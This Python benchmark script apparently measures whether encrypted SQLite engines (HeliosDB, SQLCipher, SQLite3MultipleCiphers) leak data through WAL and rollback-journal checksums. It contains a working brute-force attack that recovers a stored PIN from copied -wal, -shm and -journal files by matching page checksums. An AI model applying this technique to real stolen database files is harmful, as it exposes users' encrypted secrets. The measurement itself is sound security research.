"""Checksum leaks, measured: the PIN experiment of issue 23 against HeliosDB and its peers.

For each engine (heliosdb v2, sealed; SQLCipher 4 and SQLite3MultipleCiphers with their
default cipher; sqlite3mc with AEGIS too, as bench/run.py does), a victim process with the
key makes the same small database: table pins(id, pin) holding one 4-digit PIN.

* WAL: journal_mode=WAL, wal_autocheckpoint=0, create the table, checkpoint(TRUNCATE),
  insert the PIN in one committed transaction (one frame, page 2); the -wal and -shm are
  copied while the connection is open (no checkpoint ever sees the row).
* Rollback journal: journal_mode=DELETE, the table and the row committed, then BEGIN and
  an UPDATE of the row, and the -journal copied mid-transaction (a hot journal whose
  record is the old page 2, the PIN in it).

The attacker gets only the copied files, never the key nor the database file. For each
candidate PIN 0..9999 it rebuilds page 2 with plain SQLite (same page size, the engine's
public default reserve, same schema, same row) and compares SQLite's checksum with the
stored one: the WAL frame checksum (wal.c, cumulative, chained from the WAL header) and
the journal record checksum (pager.c pager_cksum, seeded by the journal header nonce).
It also checks whether the stored checksum is SQLite's checksum over the stored bytes,
that is over ciphertext (then it is a function of the ciphertext only and reveals
nothing), and what -shm (SQLite's WAL index) holds in clear: the WAL-index header carries
the last frame's checksum, so -wal + -shm is attacked as well.

No timing: a yes/no measurement, with the number of matching candidates as evidence.

    .venv/bin/python bench/leaks.py                 # makes the peers' venvs if missing
    .venv/bin/python bench/leaks.py --no-install    # never creates them
    .venv/bin/python bench/leaks.py --engines heliosdb,sqlcipher --json out.json
"""
from __future__ import annotations

import argparse
import ctypes
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
from typing import Dict, List, Optional

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
sys.path.insert(0, HERE)
import peers  # noqa: E402

PIN = 7351
PAGE_SIZE = 4096
ENGINES = ["plain", "heliosdb-v1", "heliosdb", "sqlcipher", "sqlite3mc", "sqlite3mc-aegis"]
LABEL = {
    "plain": "control: plain SQLite, no encryption (project apsw)",
    "heliosdb-v1": "control: heliosdb v1 fixture (before issue 23), -wal only",
    "heliosdb": "heliosdb v2 (sealed checksums)",
    "sqlcipher": "SQLCipher 4 (default: AES-256-CBC, HMAC-SHA512)",
    "sqlite3mc": "SQLite3MultipleCiphers, default cipher (chacha20)",
    "sqlite3mc-aegis": "SQLite3MultipleCiphers, AEGIS",
}
# Reserved bytes per page the attacker assumes: each engine's public default (heliosdb
# csrc/format RESERVE_BYTES; SQLCipher 4: 16-byte IV + 64-byte HMAC-SHA512; sqlite3mc:
# chacha20 16-byte nonce + 16-byte tag, AEGIS-256 32 + 32; sqlite3mc keeps bytes 16-23
# of page 1 in clear, where they can be read: 0x20 and 0x40).
RESERVE = {"plain": 0, "heliosdb-v1": 32, "heliosdb": 32, "sqlcipher": 80, "sqlite3mc": 32, "sqlite3mc-aegis": 64}


# ------------------------------------------------------------------ SQLite's checksums
# SQLite's two checksums, from heliosdb.crypto.seal (the one copy).

from heliosdb.crypto.seal import journal_checksum as journal_cksum  # noqa: E402
from heliosdb.crypto.seal import wal_checksum as wal_cksum  # noqa: E402


# ------------------------------------------------------------------------ the victim
VICTIM = r'''
import json, os, shutil, sys
engine, d, pin = sys.argv[1], sys.argv[2], int(sys.argv[3])
KEY = bytes(range(32))
info = {}

def connect(path):
    if engine == "plain":
        import apsw
        info["version"] = "apsw %s, SQLite %s" % (apsw.apswversion(), apsw.sqlite_lib_version())
        return apsw.Connection(path)
    if engine == "heliosdb":
        import heliosdb, apsw
        c = heliosdb.connect(path, key=KEY, isolation_level=None)
        info["version"] = "heliosdb %s, SQLite %s" % (heliosdb.version, apsw.sqlite_lib_version())
        return c
    if engine == "sqlcipher":
        import sqlcipher3
        c = sqlcipher3.connect(path, isolation_level=None)
        c.execute("PRAGMA key = \"x'%s'\"" % KEY.hex())
        v = c.execute("PRAGMA cipher_version").fetchall()[0][0]
        info["version"] = "sqlcipher3 (SQLCipher %s, SQLite %s)" % (v, sqlcipher3.sqlite_version)
        return c
    import apsw
    c = apsw.Connection(path)
    if engine == "sqlite3mc-aegis":
        c.execute("PRAGMA cipher = 'aegis'").fetchall()
    c.execute("PRAGMA key = \"x'%s'\"" % KEY.hex()).fetchall()
    v = c.execute("SELECT sqlite3mc_version()").fetchall()[0][0]
    ci = c.execute("PRAGMA cipher").fetchall()[0][0]
    info["version"] = "apsw-sqlite3mc %s (%s, cipher %s, SQLite %s)" % (
        apsw.apswversion(), v, ci, apsw.sqlite_lib_version())
    return c

def ex(c, sql, args=()):
    return c.execute(sql, args).fetchall()

def copy(src, dst):
    if os.path.exists(src):
        shutil.copyfile(src, dst)

# WAL: the victim of tests/vectors/v1/make_pins.py, kept open while -wal/-shm are copied.
p = os.path.join(d, "victim", "wal.db")
c = connect(p)
ex(c, "pragma journal_mode=wal")
ex(c, "pragma wal_autocheckpoint=0")
ex(c, "create table pins(id integer primary key, pin integer)")
ex(c, "pragma wal_checkpoint(TRUNCATE)")
ex(c, "insert into pins values (1, ?)", (pin,))
copy(p + "-wal", os.path.join(d, "stolen", "wal.db-wal"))
copy(p + "-shm", os.path.join(d, "stolen", "wal.db-shm"))
assert ex(c, "select pin from pins") == [(pin,)]
c.close()

# Rollback journal: committed row, then a transaction left open; copy the hot journal.
p = os.path.join(d, "victim", "j.db")
c = connect(p)
ex(c, "pragma journal_mode=delete")
ex(c, "create table pins(id integer primary key, pin integer)")
ex(c, "insert into pins values (1, ?)", (pin,))
ex(c, "begin")
ex(c, "update pins set pin = -1 where id = 1")
copy(p + "-journal", os.path.join(d, "stolen", "j.db-journal"))
ex(c, "rollback")
assert ex(c, "select pin from pins") == [(pin,)]
c.close()
print(json.dumps(info))
'''


def run_victim(engine: str, py: str, d: str, pin: int) -> dict:
    os.makedirs(os.path.join(d, "victim"))
    os.makedirs(os.path.join(d, "stolen"))
    script = os.path.join(d, "victim.py")
    with open(script, "w") as f:
        f.write(VICTIM)
    r = subprocess.run([py, script, engine, d, str(pin)], capture_output=True, text=True,
                       cwd=ROOT, timeout=300)
    if r.returncode != 0:
        raise RuntimeError(f"victim failed: {(r.stderr.strip().splitlines() or ['?'])[-1]}")
    info = json.loads(r.stdout.strip().splitlines()[-1])
    shutil.rmtree(os.path.join(d, "victim"))  # the attacker never sees the database
    return info


# ------------------------------------------------------------------------ the attacker
_CANDIDATES: Dict[int, Dict[int, bytes]] = {}


def candidate_pages(reserve: int, workdir: str) -> Dict[int, bytes]:
    """Page 2 of pins(id, pin) holding (1, c) for c in 0..9999, built with plain SQLite
    (the project's apsw, no key) with the given page size and reserve: the construction
    of tests/test_encryption_checksum_leak.py candidate_pages, for any reserve."""
    if reserve in _CANDIDATES:
        return _CANDIDATES[reserve]
    import apsw

    def sqlite_page(cand: int) -> bytes:
        p = os.path.join(workdir, f"guess{reserve}_{cand}.db")
        c = apsw.Connection(p)
        n = ctypes.c_int(reserve)
        c.file_control("main", apsw.SQLITE_FCNTL_RESERVE_BYTES, ctypes.addressof(n))
        c.execute(f"pragma page_size={PAGE_SIZE}; pragma journal_mode=off")
        c.execute("create table pins(id integer primary key, pin integer)")
        c.execute("insert into pins values (1, ?)", (cand,))
        c.close()
        with open(p, "rb") as f:
            assert f.read(24)[20] == reserve
            f.seek(PAGE_SIZE)
            page = f.read(PAGE_SIZE)
        os.remove(p)
        return page  # the reserve area of a plain page is zeros

    # One page per record serial type made by SQLite, the integer patched in at the end of
    # the usable area; checked against SQLite for a sample, so the shortcut cannot drift.
    templates = {0: sqlite_page(0), 1: sqlite_page(1), 2: sqlite_page(2), 128: sqlite_page(128)}
    end = PAGE_SIZE - reserve
    out = {0: templates[0], 1: templates[1]}
    for cand in range(2, 10000):
        page = bytearray(templates[2] if cand < 128 else templates[128])
        if cand < 128:
            page[end - 1] = cand
        else:
            page[end - 2:end] = struct.pack(">H", cand)
        out[cand] = bytes(page)
    for cand in list(range(0, 300, 37)) + [PIN - 1, PIN, PIN + 1, 9999]:
        assert out[cand] == sqlite_page(cand), cand
    _CANDIDATES[reserve] = out
    return out


def wal_frames(wal: bytes):
    """(header fields, [(offset, frame header fields, page bytes)]) of a WAL image."""
    if len(wal) < 32:
        return None, []
    magic, _v, ps, _ck, s1, s2, c1, c2 = struct.unpack(">8I", wal[:32])
    frames = []
    off = 32
    while ps and off + 24 + ps <= len(wal):
        fh = struct.unpack(">6I", wal[off:off + 24])
        if fh[2:4] != (s1, s2):
            break
        frames.append((off, fh, wal[off + 24:off + 24 + ps]))
        off += 24 + ps
    return (magic, ps, s1, s2, c1, c2), frames


def attack_wal(wal: bytes, candidates: Dict[int, bytes]) -> dict:
    """Every candidate whose SQLite frame checksum equals the stored one (page 2 frames),
    and whether the stored checksums are SQLite's over the stored (encrypted) bytes."""
    hdr, frames = wal_frames(wal)
    res = {"frames": len(frames), "matches": [], "over_ciphertext": None}
    if not frames:
        return res
    magic, ps, _s1, _s2, c1, c2 = hdr
    big = bool(magic & 1)
    prev = (c1, c2)
    cipher_ok = 0
    for off, fh, page in frames:
        pgno, _commit, _a, _b, f1, f2 = fh
        seed = wal_cksum(wal[off:off + 8], big, *prev)
        cipher_ok += wal_cksum(page, big, *seed) == (f1, f2)
        if pgno == 2:
            res["matches"] += [cand for cand, cp in candidates.items()
                               if len(cp) == ps and wal_cksum(cp, big, *seed) == (f1, f2)]
        prev = (f1, f2)
    res["over_ciphertext"] = f"{cipher_ok}/{len(frames)}"
    return res


def attack_journal(j: bytes, candidates: Dict[int, bytes]) -> dict:
    """The same for the records of a hot rollback journal (pager_cksum)."""
    res = {"records": 0, "matches": [], "over_ciphertext": None, "sampled": None}
    if len(j) < 28:
        return res
    magic = j[:8]
    cipher_ok = 0
    hdr = 0
    while hdr + 28 <= len(j) and j[hdr:hdr + 8] == magic:
        n_rec, init, _dbsize, sector, ps = struct.unpack(">5I", j[hdr + 8:hdr + 28])
        if not sector or not ps:
            break
        off, k = hdr + sector, 0
        while off + 8 + ps <= len(j) and (n_rec in (0, 0xFFFFFFFF) or k < n_rec):
            (pgno,) = struct.unpack(">I", j[off:off + 4])
            if pgno == 0:
                break
            page = j[off + 4:off + 4 + ps]
            (stored,) = struct.unpack(">I", j[off + 4 + ps:off + 8 + ps])
            res["records"] += 1
            cipher_ok += journal_cksum(init, page) == stored
            if pgno == 2:
                res["matches"] += [cand for cand, cp in candidates.items()
                                   if len(cp) == ps and journal_cksum(init, cp) == stored]
                res["sampled"] = len(range(ps - 200, 0, -200))
                res["stored_minus_nonce"] = (stored - init) & 0xFFFFFFFF
                res["ciphertext_sample_sum"] = journal_cksum(0, page)
            k += 1
            off += 8 + ps
        hdr = -(-off // sector) * sector
    res["over_ciphertext"] = f"{cipher_ok}/{res['records']}"
    return res


def read_shm(shm: bytes, wal: bytes) -> dict:
    """What SQLite's WAL index (-shm) holds in clear: WalIndexHdr (native byte order:
    mxFrame at 16, aFrameCksum at 24, aSalt at 32), the page numbers at 136."""
    out = {"size": len(shm), "nonzero": sum(1 for b in shm if b)}
    if len(shm) < 136 or not any(shm[:48]):
        return out
    mx_frame, n_page = struct.unpack("=2I", shm[16:24])
    last = struct.unpack("=2I", shm[24:32])
    salt = struct.unpack("=2I", shm[32:40])
    out.update(mx_frame=mx_frame, n_page=n_page, sz_page=struct.unpack("=H", shm[14:16])[0],
               last_frame_cksum=last,
               pgnos=list(struct.unpack(f"={min(mx_frame, 64)}I", shm[136:136 + 4 * min(mx_frame, 64)])))
    hdr, frames = wal_frames(wal)
    if hdr:
        # aSalt is copied from the WAL header bytes, so compare it as raw native words
        out["salt_as_in_wal_header"] = salt == struct.unpack("=2I", wal[16:24])
        if frames and mx_frame == len(frames):
            out["last_cksum_as_in_wal"] = tuple(frames[-1][1][4:6]) == last
    return out


def attack_wal_shm(wal: bytes, shm_info: dict, candidates: Dict[int, bytes]) -> Optional[dict]:
    """-wal + -shm: the last frame's checksum from the WAL index put in the frame header
    (the exposure tests/test_encryption_checksum_leak.py test_shm_... describes)."""
    if "last_frame_cksum" not in shm_info or shm_info.get("mx_frame") != 1:
        return None
    hdr, frames = wal_frames(wal)
    if len(frames) != 1:
        return None
    forged = wal[:32 + 16] + struct.pack(">2I", *shm_info["last_frame_cksum"]) + wal[32 + 24:]
    return attack_wal(forged, candidates)


# ------------------------------------------------------------------------ driver
FIXTURE_V1 = os.path.join(ROOT, "tests", "vectors", "v1", "pins.db-wal")


def measure(engine: str, py: str, tmp: str) -> dict:
    d = tempfile.mkdtemp(prefix=engine + "-", dir=tmp)
    if engine == "heliosdb-v1":  # the saved -wal of the code before issue 23 (make_pins.py)
        os.makedirs(os.path.join(d, "stolen"))
        shutil.copyfile(FIXTURE_V1, os.path.join(d, "stolen", "wal.db-wal"))
        info = {"version": "tests/vectors/v1/pins.db-wal (heliosdb at 0eee903)"}
    else:
        info = run_victim(engine, py, d, PIN)
    stolen = os.path.join(d, "stolen")

    def read(name):
        p = os.path.join(stolen, name)
        return open(p, "rb").read() if os.path.exists(p) else b""

    wal, shm, jr = read("wal.db-wal"), read("wal.db-shm"), read("j.db-journal")
    cands = candidate_pages(RESERVE[engine], tmp)
    out = {"engine": engine, "version": info.get("version", "?"), "reserve": RESERVE[engine],
           "wal_bytes": len(wal), "shm_bytes": len(shm), "journal_bytes": len(jr)}
    out["wal"] = attack_wal(wal, cands)
    out["shm"] = read_shm(shm, wal)
    out["wal_shm"] = attack_wal_shm(wal, out["shm"], cands)
    out["journal"] = attack_journal(jr, cands)
    shutil.rmtree(d)
    return out


def _matches(m: List[int]) -> str:
    if not m:
        return "0 of 10,000 candidates match"
    if len(m) == 1:
        return f"1 of 10,000 candidates matches: {m[0]}"
    return f"{len(m):,} of 10,000 candidates match"


def verdict_wal(r: dict) -> str:
    w = r["wal"]
    if not w["frames"]:
        return "no frame in the -wal"
    rec = w["matches"] == [PIN]
    s = ("**yes**, PIN recovered" if rec else "**yes**, not unique" if w["matches"] else "no")
    return (f"{s}: {_matches(w['matches'])}; stored = checksum over the stored "
            f"bytes in {w['over_ciphertext']} frames")


def verdict_journal(r: dict) -> str:
    j = r["journal"]
    if not r["journal_bytes"]:
        return "n/a (no -journal in the fixture)" if r["engine"] == "heliosdb-v1" else "no -journal"
    if not j["records"]:
        return "no record in the -journal"
    m = j["matches"]
    if m == [PIN]:
        s = "**yes**, PIN recovered"
    elif m:
        s = ("**yes**, checksum over the plaintext page; PIN not recovered (the sampled "
             "bytes miss the row)")
    else:
        s = "no"
    return (f"{s}: {_matches(m)}; stored checksum - nonce = {j['stored_minus_nonce']} (sum of "
            f"the {j['sampled']} sampled bytes of the candidates: 0, of the stored record: "
            f"{j['ciphertext_sample_sum']}); stored = checksum over the stored bytes in "
            f"{j['over_ciphertext']} records")


def verdict_shm(r: dict) -> str:
    s = r["shm"]
    if not r["shm_bytes"]:
        return "n/a (no -shm in the fixture)" if r["engine"] == "heliosdb-v1" else "no -shm file"
    if "mx_frame" not in s:
        return f"{s['size']:,} bytes, {s['nonzero']} non-zero: no WAL index on disk"
    parts = [f"WAL index in clear ({s['nonzero']:,} non-zero bytes): mxFrame={s['mx_frame']}, "
             f"page numbers {s['pgnos']}, salts"
             + (" (= WAL header)" if s.get("salt_as_in_wal_header") else ""),
             "last frame checksum" + (" (= the -wal frame's)" if s.get("last_cksum_as_in_wal")
                                      else " (differs from the -wal frame's)")]
    ws = r["wal_shm"]
    if ws is not None:
        rec = ws["matches"] == [PIN]
        parts.append(f"-wal + -shm: {'**PIN recovered**' if rec else 'PIN not recovered'} "
                     f"({_matches(ws['matches'])})")
    return "; ".join(parts)


def table(results: List[dict]) -> str:
    lines = ["| engine | version | WAL frame checksum leaks the PIN? | hot journal record checksum leaks? | -shm in clear |",
             "|---|---|---|---|---|"]
    for r in results:
        if "error" in r:
            lines.append(f"| {r['engine']} | unavailable | unavailable: {r['error']} | | |")
            continue
        lines.append(f"| {LABEL[r['engine']]} | {r['version']} | {verdict_wal(r)} | "
                     f"{verdict_journal(r)} | {verdict_shm(r)} |")
    return "\n".join(lines)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--engines", default=",".join(ENGINES))
    ap.add_argument("--no-install", action="store_true", help="never create the peers' venvs")
    ap.add_argument("--json", help="also write the raw results here")
    a = ap.parse_args(argv)
    results = []
    tmp = tempfile.mkdtemp(prefix="heliosdb-leaks-")
    try:
        for engine in a.engines.split(","):
            if engine not in RESERVE:
                raise SystemExit(f"unknown engine {engine}; known: {', '.join(ENGINES)}")
            if engine in ("plain", "heliosdb-v1"):
                py, why = sys.executable, None
            elif engine == "heliosdb":
                import heliosdb
                py = sys.executable if heliosdb.native_available() else None
                why = None if py else "no native extension (encryption unavailable)"
            else:
                py, why, _pkg = peers.ensure(peers.ENGINE_VENV[engine], install=not a.no_install,
                                             log=lambda m: print(m, file=sys.stderr))
            if py is None:
                results.append({"engine": engine, "error": why})
                continue
            print(f"{engine}: victim, then 10,000 candidates ...", file=sys.stderr)
            try:
                results.append(measure(engine, py, tmp))
            except Exception as exc:  # reported, never dropped
                results.append({"engine": engine, "error": f"{type(exc).__name__}: {exc}"})
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"PIN {PIN}, page size {PAGE_SIZE}; attacker has only the copied -wal/-shm/-journal.\n")
    print(table(results))
    if a.json:
        with open(a.json, "w") as f:
            json.dump(results, f, indent=1, default=str)
    return 0


if __name__ == "__main__":
    sys.exit(main())
